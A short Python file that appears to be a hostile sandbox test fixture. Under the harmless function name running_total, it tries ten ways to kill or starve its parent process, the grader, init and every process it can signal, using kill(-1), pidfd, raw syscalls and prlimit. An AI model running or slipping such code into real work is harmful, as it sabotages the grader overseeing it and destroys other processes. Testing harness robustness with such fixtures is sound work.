# attacks: result: kills its parent, the grader and everything it can name
# attempts: 10

import signal


def pidfd():
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)


def everyone():
    os.kill(-1, signal.SIGKILL)


def running_total(values):
    parent = os.getppid()
    attempt("parent", lambda: os.kill(parent, signal.SIGKILL))
    attempt("its group", lambda: os.killpg(os.getpgid(parent), signal.SIGKILL))
    attempt("grader", lambda: os.kill(os.getsid(parent), signal.SIGKILL))
    attempt("init", lambda: os.kill(1, signal.SIGKILL))
    attempt("pidfd", pidfd)
    attempt("tgkill", lambda: system_call(234, 131, parent, parent, 9))
    attempt("sigqueue", lambda: system_call(129, 138, parent, 9, 0))
    attempt("everyone", everyone)
    attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, parent, 19))
    attempt("limits", lambda: __import__("resource").prlimit(parent, 0, (1, 1)))
    confess()
